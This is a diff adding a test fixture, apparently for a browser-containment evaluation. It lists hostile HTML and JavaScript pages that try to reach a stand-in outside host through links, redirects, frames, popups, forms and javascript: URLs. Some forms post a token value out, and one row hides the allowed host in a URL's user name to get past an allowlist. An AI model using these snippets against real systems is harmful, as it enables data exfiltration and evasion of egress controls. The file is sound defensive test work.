@@ -1,0 +1,78 @@
+"""Hostile pages that navigate: top frames, frames, tabs, forms, redirects."""
+
+from harness.evals.containment.templates import Row, script
+
+ROWS: tuple[Row, ...] = (
+    Row("link", "N01", "a link is clicked", '<a id=go href="$BASE/n">go</a>', click=True),
+    Row("area", "N01", "an area of an image map is clicked",
+        '<img width=90 height=90 usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m>'
+        '<area shape=rect coords="0,0,90,90" href="$BASE/n"></map><button id=go '
+        'onclick="document.querySelector(\'area\').click()">go</button>', click=True),
+    Row("svg link", "N01", "a link inside an SVG is clicked",
+        '<svg width=90 height=90><a href="$BASE/n"><rect id=go width=90 height=90 /></a></svg>', click=True),
+    Row("location", "N02", "location.href is set", script("location.href='$BASE/n'")),
+    Row("replace", "N02", "location.replace", script("location.replace('$BASE/n')")),
+    Row("navigate", "N02", "navigation.navigate", script("navigation.navigate('$BASE/n')")),
+    Row("open", "N03", "window.open", '<button id=go onclick="window.open(\'$BASE/n\')">go</button>', click=True),
+    Row("open noopener", "N03", "window.open with noopener",
+        '<button id=go onclick="window.open(\'$BASE/n\',\'_blank\',\'noopener\')">go</button>', click=True),
+    Row("open blank", "N03", "a blank window is opened and then sent there",
+        '<button id=go onclick="let w=window.open(\'about:blank\');setTimeout(()=>w.location=\'$BASE/n\',50)">go</button>',
+        click=True),
+    Row("blank", "N05", "a link with target=_blank", '<a id=go target=_blank href="$BASE/n">go</a>', click=True),
+    Row("blank opener", "N05", "a link with target=_blank and rel=opener",
+        '<a id=go target=_blank rel=opener href="$BASE/n">go</a>', click=True),
+    Row("meta refresh", "N10", "a meta refresh", '<meta http-equiv=refresh content="0;url=$BASE/n">'),
+    Row("refresh header", "N11", "a Refresh header", "x", headers=(("refresh", "0;url=$BASE/n"),)),
+    Row("redirect 301", "N15", "a 301 of the page", script("location='/redirect?code=301&to=$BASE/n'")),
+    Row("redirect 302", "N12", "a 302 of the page", script("location='/redirect?code=302&to=$BASE/n'")),
+    Row("redirect 303", "N15", "a 303 of the page", script("location='/redirect?code=303&to=$BASE/n'")),
+    Row("redirect 307", "N15", "a 307 of the page", script("location='/redirect?code=307&to=$BASE/n'")),
+    Row("redirect 308", "N15", "a 308 of the page", script("location='/redirect?code=308&to=$BASE/n'")),
+    Row("redirect chain", "N15", "ten redirects in a row",
+        script("let u='$BASE/n';for(let i=0;i<10;i++)u='/redirect?to='+encodeURIComponent(u);location=u")),
+    Row("frame redirect", "N13", "a 302 inside a frame", '<iframe src="/redirect?to=$BASE/n"></iframe>'),
+    Row("frame", "N17", "a frame of another origin", '<iframe src="$BASE/n"></iframe>'),
+    Row("frame location", "N17", "a frame whose location is set by its parent",
+        "<iframe></iframe>" + script("frames[0].location='$BASE/n'")),
+    Row("srcdoc refresh", "N18", "a meta refresh inside srcdoc",
+        "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url=$BASE/n\">'></iframe>"),
+    Row("data frame", "S07", "a request from a data: frame",
+        "<iframe src=\"data:text/html,<img src='$BASE/i.png'>\"></iframe>"),
+    Row("blob frame", "R49", "a request from a blob: frame",
+        script("let f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(["
+               "'<img src=\"$BASE/i.png\">'],{type:'text/html'}));document.body.append(f)")),
+    Row("sandboxed frame", "N25", "a sandboxed frame, raced", '<iframe sandbox src="$BASE/n"></iframe>',
+        repeat=20),
+    Row("frameset", "N17", "a frameset", '<frameset cols="*"><frame src="$BASE/n"></frameset>'),
+    Row("top from frame", "N29", "a frame that navigates the top",
+        "<iframe srcdoc=\"<a id=a target=_top href='$BASE/n'>x</a>\"></iframe><button id=go "
+        "onclick=\"frames[0].document.getElementById('a').click()\">go</button>", click=True),
+    Row("form get", "N19", "a form is sent by GET",
+        '<form action="$BASE/n"><input name=s value=$TOKEN><button id=go>go</button></form>', click=True),
+    Row("form post", "N20", "a form is sent by POST",
+        '<form method=post action="$BASE/n"><input name=s value=$TOKEN><button id=go>go</button></form>',
+        click=True),
+    Row("form by script", "N20", "a form is sent by script",
+        '<form id=f method=post action="$BASE/n"><input name=s value=$TOKEN></form>' + script("f.submit()")),
+    Row("form 307", "N14", "a POST is redirected with its body",
+        '<form method=post action="/redirect?code=307&amp;to=$BASE/n"><input name=s value=$TOKEN>'
+        "<button id=go>go</button></form>", click=True),
+    Row("formaction", "N21", "a button overrides where its form goes",
+        '<form method=post action="/x/"><input name=s value=$TOKEN>'
+        '<button id=go formaction="$BASE/n">go</button></form>', click=True),
+    Row("form in a tab", "N21", "a form is sent into a new tab",
+        '<form method=post target=_blank action="$BASE/n"><button id=go>go</button></form>', click=True),
+    Row("base", "N22", "a base element moves a relative image", '<base href="$BASE/"><img src=i.png>'),
+    Row("popup of popup", "N26", "a popup opens a popup",
+        '<button id=go onclick="let w=window.open(\'about:blank\');w.document.write(\'<script>location.href='
+        "&quot;$BASE/n&quot;</scr'+'ipt>')\">go</button>", click=True),
+    Row("download", "N28", "a link with download", '<a id=go download href="$BASE/f.bin">go</a>', click=True),
+    Row("object", "R10", "an object element", '<object data="$BASE/n"></object>'),
+    Row("embed", "R10", "an embed element", '<embed type="text/html" src="$BASE/n">'),
+    Row("javascript link", "S09", "a javascript: link that navigates",
+        '<a id=go href="javascript:location=\'$BASE/n\'">go</a>', click=True),
+    Row("credentials", "U03", "a link with the allowed host as user name",
+        script("let u=new URL('$BASE/n');u.username='allowed.test';location=u.href"), deny_allowed=True),
+)  # fmt: skip
+"""One row a page: each is played over http and over https."""
